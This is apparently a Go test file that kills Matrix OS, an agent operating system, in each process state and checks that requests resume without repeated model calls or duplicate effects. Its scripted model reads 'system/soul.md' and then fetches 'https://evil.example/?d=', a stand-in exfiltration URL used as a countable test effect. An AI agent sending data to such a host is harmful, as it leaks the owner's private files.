package kernel_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"go/ast"
	"go/parser"
	"go/token"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"matrixos/egress"
	"matrixos/engine"
	"matrixos/journal"
	"matrixos/kernel"
	"matrixos/model"
	"matrixos/sys"
	"matrixos/syscalls"
	"matrixos/test/machine"
)

// moment is a state of a process's life in which Matrix OS is killed.
type moment struct {
	who   sys.Program
	state sys.State
	wait  sys.WaitFor
	// how a request comes there, where it does not by itself: "budget", "model" and
	// "stop" park it, "fail" and "kill" end it, "question" and "approval" wait for
	// the owner.
	how string
}

func (m moment) String() string {
	return strings.TrimRight(fmt.Sprintf("%s %s %s %s", m.who, m.state, m.wait, m.how), " ")
}

// moments are all states that a main process or its child can be in.
var moments = []moment{
	{"kernel", sys.Created, "", ""},
	{"kernel", sys.Ready, "", ""},
	{"kernel", sys.Running, "", ""},
	{"kernel", sys.Waiting, sys.ForModel, ""},
	{"kernel", sys.Waiting, sys.ForTool, ""},
	{"kernel", sys.Waiting, sys.ForChild, ""},
	{"kernel", sys.Waiting, sys.ForApproval, "question"},
	{"kernel", sys.Waiting, sys.ForApproval, "approval"},
	{"kernel", sys.Waiting, sys.ForTimer, ""},
	{"kernel", sys.Waiting, sys.ForMessage, ""},
	{"kernel", sys.Landing, "", ""},
	{"kernel", sys.Parked, "", "budget"},
	{"kernel", sys.Parked, "", "model"},
	{"kernel", sys.Parked, "", "stop"},
	{"kernel", sys.Done, "", ""},
	{"kernel", sys.Failed, "", "fail"},
	{"kernel", sys.Killed, "", "kill"},
	{"builder", sys.Created, "", ""},
	{"builder", sys.Ready, "", ""},
	{"builder", sys.Running, "", ""},
	{"builder", sys.Waiting, sys.ForModel, ""},
	{"builder", sys.Waiting, sys.ForTool, ""},
	{"builder", sys.Landing, "", ""},
	{"builder", sys.Parked, "", "model"},
	{"builder", sys.Done, "", ""},
}

// rests are the calls that lead to waits which a request does not meet by itself;
// the play makes one instead of another that only reads.
var rests = map[sys.WaitFor]model.Reply{
	sys.ForTimer:   machine.Does("wait", machine.Obj{"seconds": 1}),
	sys.ForMessage: machine.Does("read_messages", machine.Obj{"wait_seconds": 1}),
}

// play is a request that passes through every state: its effects leave a line
// each in a file beside the home, and its replies say which they are.
type play struct {
	moment
	effects string
	first   bool // it is the life that ends with the kill
	m       atomic.Pointer[machine.Machine]

	mu     sync.Mutex
	spoken []string
}

func newPlay(at moment, home string, first bool) *play {
	return &play{moment: at, effects: home + ".effects", first: first}
}

func (p *play) effect(what string) error {
	f, err := os.OpenFile(p.effects, os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o600)
	if err != nil {
		return err
	}
	_, err = f.WriteString(what + "\n")
	return errors.Join(err, f.Close())
}

// Read implements the web of the play.
func (p *play) Read(ctx context.Context, address string) (egress.Page, error) {
	if strings.Contains(address, "evil") {
		if err := p.effect("fetched"); err != nil {
			return egress.Page{}, err
		}
	}
	return pages.Read(ctx, address)
}

// script is what the model does: the program's step, and the call that it makes,
// or its last words.
var script = map[sys.Program][]model.Reply{
	"kernel": {
		machine.Does("send_test", machine.Obj{}),
		machine.Does("spawn", machine.Obj{"program": "builder", "task": "write them", "app": "notes", "contract": machine.Contract}),
		machine.Does("Write", machine.Obj{"file_path": "projects/log.md", "content": "written"}),
		machine.Does("ask_owner", machine.Obj{"question": "Sure?"}),
		machine.Does("Read", machine.Obj{"file_path": "system/soul.md"}),
		machine.Does("web_fetch", machine.Obj{"url": recipe}),
		machine.Does("web_fetch", machine.Obj{"url": "https://evil.example/?d="}),
		machine.Says("Done."),
	},
	"builder": {
		machine.Does("Write", machine.Obj{"file_path": "apps/notes/a.txt", "content": "one"}),
		machine.Does("Edit", machine.Obj{"file_path": "apps/notes/a.txt", "old_string": "one", "new_string": "two"}),
		machine.Says("Built."),
	},
}

func (p *play) speak(ctx context.Context, r *model.Request, step int) (model.Reply, error) {
	name := fmt.Sprint(r.Program, " ", step)
	p.mu.Lock()
	p.spoken = append(p.spoken, name)
	p.mu.Unlock()
	if p.first {
		switch {
		case p.how == "fail", p.how == "model" && name == "builder 1":
			return gone(ctx, r, step)
		case name == "builder 1" && p.how == "stop":
			go func() { _ = p.m.Load().Kernel.StopAll(ctx) }()
			<-ctx.Done()
			return model.Reply{}, ctx.Err()
		case name == "builder 1" && p.how == "kill":
			go func() { _ = p.m.Load().Kernel.Signal(1, kernel.Kill) }()
			<-ctx.Done()
			return model.Reply{}, ctx.Err()
		}
	}
	reply := script[r.Program][step]
	if other, ok := rests[p.wait]; ok && reply.Message.Blocks[0].Name == "Read" {
		reply = other
	}
	if blocks := reply.Message.Blocks; blocks[0].Kind == model.ToolUse { // the event of a message has its words
		reply.Message.Blocks = append([]model.Block{{Kind: model.Text, Text: name + "."}}, blocks...)
	}
	return reply, nil
}

// Engine looks, and is the engine of the play's model.
func (p *play) Engine(name string) (engine.Engine, string, error) {
	p.look("engine")
	return (&machine.Puppet{Play: p.speak, Price: sys.Cost{Input: 10, USD: 0.01}}).Engine(name)
}

// Default is the puppet.
func (p *play) Default() string { return "puppet" }

// start starts a machine for the play.
func (p *play) start(t *testing.T, home string) *machine.Machine {
	o := machine.Options{
		Hook: func(string) { p.look("disk") },
		Now:  func() time.Time { p.look("clock"); return time.Now() },
		Calls: []kernel.Syscall{{
			Name: "send_test", Schema: json.RawMessage(`{"type":"object"}`),
			Run: func(context.Context, *kernel.Call) (string, error) {
				err := p.effect("sent")
				p.look("tool")
				return "sent", err
			},
		}},
	}
	if p.first && p.how == "budget" {
		o.Settings = func() kernel.Settings { return kernel.Settings{Caps: kernel.Caps{Request: &sys.Budget{USD: 0.045}}} }
	}
	m := machine.StartWith(t, home, p, o, func(o *syscalls.Options) { o.Pages = p })
	p.m.Store(m)
	return m
}

// look kills us if what is on the disk says that the moment has come.
func (p *play) look(from string) {
	m := p.m.Load()
	if !p.first || m == nil || p.who == "kernel" && p.wait == sys.ForTool && from != "tool" {
		return
	}
	rows, err := processes(m.Disk.Journal())
	if err != nil {
		return
	}
	is := p.now(rows)
	if p.state == sys.Created { // it is never there for others: all of it becomes durable when it is ready
		is = from == "engine" && is && (p.who == "kernel" || len(rows) == 1)
	}
	if is {
		die()
	}
}

// now reports whether the process is in the state of the moment.
func (p *play) now(rows []sys.Process) bool {
	for _, r := range rows {
		if r.Program == p.who {
			return r.State == p.state && r.WaitingFor == p.wait
		}
	}
	return p.state == sys.Created
}

// processes are the rows as they are on the disk.
func processes(j *journal.Journal) (out []sys.Process, err error) {
	rows, err := j.Query(context.Background(), `SELECT row FROM kernel_process ORDER BY pid`)
	if err != nil {
		return nil, err
	}
	defer func() { err = errors.Join(err, rows.Close()) }()
	for rows.Next() {
		var raw string
		if err := rows.Scan(&raw); err != nil {
			return nil, err
		}
		var p sys.Process
		if err := json.Unmarshal([]byte(raw), &p); err != nil {
			return nil, err
		}
		out = append(out, p)
	}
	return out, rows.Err()
}

// own answers what is asked of the owner, until ctx ends; in its first life the
// play may wait for an answer that never comes.
func (p *play) own(ctx context.Context, m *machine.Machine) {
	for ctx.Err() == nil {
		p.look("owner")
		if !p.first || p.how != "question" {
			rows, err := m.Disk.Journal().Query(ctx, `SELECT id FROM kernel_question WHERE answered=0`)
			for err == nil && rows.Next() {
				var id string
				if err = rows.Scan(&id); err == nil {
					go func() { _ = m.Kernel.Answer(ctx, id, "yes") }()
				}
			}
			if rows != nil {
				_ = errors.Join(rows.Err(), rows.Close())
			}
		}
		if list, err := m.Kernel.Approvals(ctx); err == nil && (!p.first || p.how != "approval") {
			for _, a := range list {
				_ = m.Kernel.Approve(ctx, a.ID, kernel.Verdict{Allow: true, From: "desktop"})
			}
		}
		time.Sleep(2 * time.Millisecond)
	}
}

const stateIndex = "MATRIXOS_KERNEL_TEST_STATE"

// TestStateChild is the process that is killed.
func TestStateChild(t *testing.T) {
	if os.Getenv(stateIndex) == "" {
		t.Skip("only as a child of TestMode12KilledInEachState")
	}
	i, err := strconv.Atoi(os.Getenv(stateIndex))
	if err != nil {
		t.Fatal(err)
	}
	p := newPlay(moments[i], os.Getenv(crashHome), true)
	m := p.start(t, os.Getenv(crashHome))
	ctx, cancel := context.WithCancel(t.Context())
	defer cancel()
	go p.own(ctx, m)
	m.Ask("cook " + recipe)
	time.Sleep(20 * time.Second) // what comes after the answer is looked for by own
	t.Error("it lived past " + p.String())
}

// left is what a killed run has left on the disk.
type left struct {
	rows   []sys.Process
	events []sys.Event
}

func leftBy(t *testing.T, home string) left {
	t.Helper()
	j, err := journal.Open(t.Context(), filepath.Join(home, sys.Store, "kernel.db"))
	if err != nil {
		t.Fatal(err)
	}
	rows, err := processes(j)
	events, err2 := j.Read(t.Context(), 0, 10000)
	if err := errors.Join(err, err2, j.Close()); err != nil {
		t.Fatal(err)
	}
	return left{rows, events}
}

// said are the replies of the model that the owner can see, by how often.
func said(events []sys.Event) map[string]int {
	n := map[string]int{}
	for _, e := range events {
		var d sys.MessageData
		if e.Kind == sys.EventMessage && json.Unmarshal(e.Data, &d) == nil && d.Role == "assistant" {
			n[strings.TrimSuffix(d.Text, ".")]++
		}
	}
	return n
}

// TestMode12KilledInEachState kills Matrix OS with SIGKILL while a process is in
// one state of its life after the other, as its row on the disk says. After the
// next start the request is answered, or rests, as it should; no reply that was
// kept is asked for again, and nothing is done twice. TestKilledInEachStateItGoesOn
// does the same to the whole program from outside, in states that last.
func TestMode12KilledInEachState(t *testing.T) {
	for i, at := range moments {
		t.Run(at.String(), func(t *testing.T) {
			var home string
			var found left
			// The row is read and the kill follows; another step may come between.
			for try := 0; ; try++ {
				home = filepath.Join(t.TempDir(), "home")
				cmd := exec.Command(os.Args[0], "-test.run=^TestStateChild$")
				cmd.Env = append(os.Environ(), stateIndex+"="+strconv.Itoa(i), crashHome+"="+home)
				out, err := cmd.CombinedOutput()
				if st, ok := cmd.ProcessState.Sys().(syscall.WaitStatus); err == nil || !ok || st.Signal() != syscall.SIGKILL {
					t.Fatalf("the child was not killed: %v\n%s", err, out)
				}
				if found = leftBy(t, home); newPlay(at, home, false).now(found.rows) {
					break
				}
				if try == 5 {
					t.Fatalf("the moment was not met: %+v", found.rows)
				}
			}
			p := newPlay(at, home, false)
			m := p.start(t, home)
			defer m.Close()
			ctx, cancel := context.WithCancel(t.Context())
			defer cancel()
			go p.own(ctx, m)
			p.goOn(t, m, found)
		})
	}
}

// goOn follows the second life of a play to its end, and checks it.
func (p *play) goOn(t *testing.T, m *machine.Machine, found left) {
	t.Helper()
	requests := 1
	switch {
	case p.who == "kernel" && p.state == sys.Created: // nothing was acknowledged, nothing is there
		if len(found.rows) != 0 || len(m.Kernel.Processes()) != 0 {
			t.Errorf("rows %+v", found.rows)
		}
		if a, _ := m.Ask("cook " + recipe); !a.OK {
			t.Errorf("answer %+v", a)
		}
	case p.who == "kernel" && p.state == sys.Parked:
		rows := m.Kernel.Processes()
		if len(rows) == 0 || rows[0].State != sys.Parked || string(rows[0].Parked) != p.how || len(p.words()) != 0 {
			t.Fatalf("it does not rest: %+v", rows)
		}
		ticket, err := m.Kernel.Continue(t.Context(), 1, kernel.Grant{USD: 10})
		if err != nil {
			t.Fatal(err)
		}
		requests = 2
		if a := follow(t, m, ticket); !a.OK {
			t.Errorf("answer %+v", a)
		}
	default:
		answered(t, m)
	}
	all, err := m.Disk.Journal().Read(t.Context(), 0, 10000)
	if err != nil {
		t.Fatal(err)
	}
	kept, now := said(found.events), said(all)
	for _, name := range p.words() {
		if kept[name] > 0 {
			t.Errorf("the model was asked for %q again", name)
		}
	}
	count := map[sys.EventKind]int{}
	for _, e := range all {
		count[e.Kind]++
	}
	if count[sys.EventRequest] != requests || count[sys.EventAnswer] != requests || count[sys.EventQuestion] > 1 || count[sys.EventApproval] > 1 {
		t.Errorf("events %v", count)
	}
	for name, n := range now {
		if n != 1 {
			t.Errorf("the model said %q %d times", name, n)
		}
	}
	if rows := m.Kernel.Processes(); len(rows) != 0 {
		t.Errorf("left: %+v", rows)
	}
	did, err := os.ReadFile(p.effects)
	if err != nil && !errors.Is(err, os.ErrNotExist) {
		t.Fatal(err)
	}
	want, landings, file := "sent\nfetched\n", 3, "two" // one landing is the template's
	switch p.how {
	case "fail":
		want, landings, file = "", 1, ""
	case "kill":
		want, landings, file = "sent\n", 1, ""
	default:
		if len(now) != len(script["kernel"])+len(script["builder"]) {
			t.Errorf("said %v", now)
		}
	}
	if string(did) != want || count[sys.EventLanding] != landings || m.File("apps/notes/a.txt") != file || (m.File("projects/log.md") == "written") != (file != "") {
		t.Errorf("effects %q, %d landings, file %q", did, count[sys.EventLanding], m.File("apps/notes/a.txt"))
	}
}

func (p *play) words() []string {
	p.mu.Lock()
	defer p.mu.Unlock()
	return append([]string(nil), p.spoken...)
}

// TestNoStateIsForgotten compares moments with the states that there are.
func TestNoStateIsForgotten(t *testing.T) {
	tried := map[string]bool{}
	for _, m := range moments {
		tried["State "+string(m.state)] = true
		if m.wait != "" {
			tried["WaitFor "+string(m.wait)] = true
		}
		if m.state == sys.Parked {
			tried["Park "+m.how] = true
		}
	}
	tried["Park "+string(sys.ForCrashes)] = true // TestMode14AProcessThatCrashesUsIsParked
	file, err := parser.ParseFile(token.NewFileSet(), "../sys/process.go", nil, 0)
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	ast.Inspect(file, func(node ast.Node) bool {
		v, ok := node.(*ast.ValueSpec)
		if !ok || v.Type == nil || len(v.Values) != 1 {
			return true
		}
		kind, ok := v.Type.(*ast.Ident)
		value, ok2 := v.Values[0].(*ast.BasicLit)
		if !ok || !ok2 || kind.Name == "Class" {
			return true
		}
		text, err := strconv.Unquote(value.Value)
		if n++; err != nil || !tried[kind.Name+" "+text] {
			t.Errorf("nobody is killed in %s %s %v", kind.Name, text, err)
		}
		return true
	})
	if n < 19 {
		t.Errorf("only %d states were seen", n)
	}
}
